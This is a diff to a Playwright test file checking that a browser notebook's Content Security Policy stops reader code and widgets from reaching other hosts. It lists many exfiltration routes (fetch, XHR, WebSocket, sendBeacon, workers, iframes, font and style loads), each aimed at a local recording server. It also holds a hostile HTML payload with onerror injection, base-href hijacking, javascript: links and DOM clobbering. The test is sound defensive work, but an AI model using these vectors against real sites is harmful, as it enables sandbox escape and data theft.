@@ -1,4 +1,11 @@
-"""The policy at work: the browser refuses what the build did not write."""
+"""The policy at work: the browser refuses what the build did not write, and every other host.
+
+What is asked of another host is asked of a server that counts: whatever a script is told, the
+server knows what has reached it.
+"""
+
+import http.server
+import threading
 
 import pytest
 
@@ -12,6 +19,145 @@ INJECT = """() => {
   text.firstChild.click();
   return window.injected === true;
 }"""
+RUN = """async (code) => {
+  window.python ??= window.bookCells.makePython({});
+  const values = [];
+  const onOutput = ({ bundle, text }) => values.push(bundle ?? text);
+  return { ...(await window.python.run("cell 1", code, { limit: 600_000, onOutput })), values };
+}"""
+SHOW = """async (id) => {
+  const place = document.body.appendChild(document.createElement("div"));
+  await window.bookWidgets.show(id, place);
+}"""
+# every way out of a worker that JavaScript knows: those that raise, and those that fail later
+FROM_PYTHON = """
+import js
+from pyodide.ffi import to_js
+from pyodide.http import open_url
+
+def blob(text):
+    kind = js.Object.fromEntries(to_js([["type", "text/javascript"]]))
+    return js.URL.createObjectURL(js.Blob.new(to_js([text]), kind))
+
+def request():
+    asked = js.XMLHttpRequest.new()
+    asked.open("GET", "http://HOST/xhr", False)
+    asked.send()
+
+def module():
+    js.Worker.new(blob("import 'http://HOST/module'; fetch('http://HOST/in-module')"))
+
+ways = {
+    "request": request,
+    "open_url": lambda: open_url("http://HOST/open_url"),
+    "importScripts": lambda: js.importScripts("http://HOST/scripts"),
+    "worker": lambda: js.Worker.new("http://HOST/worker"),
+    "worker of our own": lambda: js.Worker.new(js.location.origin + "/python-worker.js"),
+    "module": module,
+    "eval": lambda: js.eval("fetch('http://HOST/eval')"),
+    "urllib": lambda: __import__("urllib.request").request.urlopen("http://HOST/urllib"),
+}
+silent = {
+    "fetch": lambda: js.fetch("http://HOST/fetch"),
+    "socket": lambda: js.WebSocket.new("ws://HOST/socket"),
+    "events": lambda: js.EventSource.new("http://HOST/events"),
+    "font": lambda: js.FontFace.new("f", "url(http://HOST/font)").load(),
+}
+allowed = []
+for name, way in ways.items():
+    try:
+        way()
+    except Exception:
+        continue
+    allowed.append(name)
+for way in silent.values():
+    way()
+allowed
+"""
+WIDGET = '''
+import anywidget
+class Spy(anywidget.AnyWidget):
+    _esm = """
+const until = (target, good, bad) => new Promise((done, fail) => {
+  target[good] = done;
+  target[bad] = fail;
+});
+const element = (name, facts) =>
+  document.body.appendChild(Object.assign(document.createElement(name), facts));
+const link = (rel, href) => until(element("link", { rel, href }), "onload", "onerror");
+const inside = async (frame) => {
+  await until(frame, "onload", "onerror");
+  await frame.contentWindow.fetch("http://HOST/frame");
+};
+const worker = (address) => until(new Worker(address), "onmessage", "onerror");
+const fail = "() => setTimeout(() => { throw 1; })";
+const blob = `fetch('http://HOST/worker').then(() => postMessage(1), ${fail})`;
+const ways = {
+  fetch: () => fetch("http://HOST/fetch"),
+  image: () => until(element("img", { src: "http://HOST/image" }), "onload", "onerror"),
+  module: () => import("http://HOST/module"),
+  socket: () => until(new WebSocket("ws://HOST/socket"), "onopen", "onerror"),
+  "worker of our own": () => worker("_static/book/python-worker.js"),
+  "worker of a blob": () => worker(URL.createObjectURL(new Blob([blob]))),
+  "shared worker": () => until(new SharedWorker("_static/book/lite.js"), "onconnect", "onerror"),
+  "service worker": () => navigator.serviceWorker.register("_static/book/python-worker.js"),
+  page: () => inside(element("iframe", { src: "index.html" })),
+  text: () => inside(element("iframe", { src: "_static/book/LICENSES.txt" })),
+  style: () => link("stylesheet", "http://HOST/style"),
+  prefetch: () => link("prefetch", "http://HOST/fetched"),
+  eval: async () => eval("1"),
+};
+export default { async render({ model, el }) {
+  const allowed = [];
+  navigator.sendBeacon("http://HOST/beacon");
+  for (const [name, way] of Object.entries(ways)) {
+    await way().then(() => allowed.push(name), () => {});
+  }
+  window.allowed = allowed;
+  el.append("asked");
+} };
+"""
+Spy()
+'''
+BUNDLE_IN_A_FRAME = """async () => {
+  const state = JSON.stringify({ version_major: 2, version_minor: 0, state: {} });
+  const frame = document.createElement("iframe");
+  frame.srcdoc = `<script src="${document.querySelector("script[src*='book.js']").src}"></script>
+    <script type="application/vnd.jupyter.widget-state+json">${state}</script>`;
+  const loaded = new Promise((resolve) => (frame.onload = resolve));
+  document.body.append(frame);
+  await loaded;
+  return typeof frame.contentWindow.bookWidgets;
+}"""
+
+
+class Elsewhere(http.server.BaseHTTPRequestHandler):
+    """Another host, which answers everyone and remembers what was asked."""
+
+    def do_GET(self):
+        self.server.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Content-Type", "text/javascript")
+        self.end_headers()
+
+    do_POST = do_OPTIONS = do_GET  # noqa: N815  so they are called
+
+    def log_message(self, *_):
+        pass
+
+
+@pytest.fixture
+def elsewhere():
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
+    server.asked = []
+    server.address = f"127.0.0.1:{server.server_address[1]}"
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield server
+    server.shutdown()
+    server.server_close()
+    thread.join()
 
 
 @pytest.mark.parametrize("kind", ["http", "file"])
@@ -23,8 +169,64 @@ def test_an_injected_script_does_not_run(page, server, site, kind):
         assert page.evaluate(INJECT) is False
 
 
-def test_nothing_can_be_sent_to_another_host(page, server):
+def test_the_scripts_of_the_book_do_nothing_in_a_frame_that_was_injected(page, server):
     page.goto(f"{server}/chapters/welcome.html")
-    refused = "() => fetch('http://192.0.2.1/').then(() => false, () => true)"
+    page.forgiven.append("run in its own pages only")
+    assert page.evaluate(BUNDLE_IN_A_FRAME) == "undefined"
+
+
+def test_no_code_of_the_readers_reaches_another_host(window, server, elsewhere):
+    page = window().new_page()
+    page.goto(f"{server}/search.html")
+    asked = page.evaluate(RUN, FROM_PYTHON.replace("HOST", elsewhere.address))
+    assert asked["error"] is None
+    assert asked["values"][-1]["text/plain"] == "[]"
+    made = page.evaluate(RUN, WIDGET.replace("HOST", elsewhere.address))
+    shown = made["values"][-1]["application/vnd.jupyter.widget-view+json"]
+    page.evaluate(SHOW, shown["model_id"])
+    page.wait_for_function("() => window.allowed")
+    assert page.evaluate("window.allowed") == []
+    own = page.evaluate(RUN, "len(open_url(js.location.origin + '/').read()) > 0")
+    assert own["values"][-1]["text/plain"] == "True"  # so what was refused was refused for its host
+    assert elsewhere.asked == []
+
+
+HOSTILE_HTML = (
+    "<meta http-equiv=refresh content='0;url=index.html'><base href='//192.0.2.1/'>"
+    "<form action='index.html' target=_top><button>kept</button></form>"
+    "<iframe srcdoc='x'></iframe><object data=x></object><embed src=x><link rel=x href=x>"
+    "<a id=one href='javascript:1' target=_top>a</a><a id=two href='https://example.org/'>b</a>"
+    "<img src='data:image/png,' onerror='window.injected = 1' name=createElement>"
+    "<svg><a><set/></a></svg>"
+)
+
+
+def test_html_of_a_widget_can_be_looked_at_and_no_more(page, server):
     page.forgiven.append("Content Security Policy")
-    assert page.evaluate(refused)
+    page.goto(f"{server}/search.html")
+    page.evaluate("window.stayed = true")
+    for kind in ("HTML", "HTMLMath"):
+        made = page.evaluate(RUN, f"import ipywidgets\nipywidgets.{kind}({HOSTILE_HTML!r})")
+        view = made["values"][-1]["application/vnd.jupyter.widget-view+json"]
+        page.evaluate(SHOW, view["model_id"])
+        shown = page.locator(".widget-html-content, .widget-htmlmath-content").last
+        assert shown.locator("meta, base, form, iframe, object, embed, link, set").count() == 0
+        assert shown.locator("button").inner_text() == "kept"
+        assert shown.locator("#one").get_attribute("href") is None
+        link = shown.locator("#two").evaluate("({ href, target, rel }) => [href, target, rel]")
+        assert link == ["https://example.org/", "_blank", "noopener noreferrer"]
+        assert shown.locator("[onerror], [name], [target=_top]").count() == 0
+    assert page.evaluate("[window.stayed, window.injected, typeof document.createElement]") == [
+        *(True, None, "function")
+    ]
+
+
+def test_no_script_takes_the_reader_to_another_host_unasked(page, server):
+    page.goto(f"{server}/search.html")
+    page.evaluate("() => { window.location = 'http://192.0.2.1/away'; }")
+    notice = page.locator(".book-notice")
+    notice.wait_for()
+    assert "wanted to open another page and was stopped: http://192.0.2.1/away" in (
+        notice.inner_text()
+    )
+    assert page.url == f"{server}/search.html"
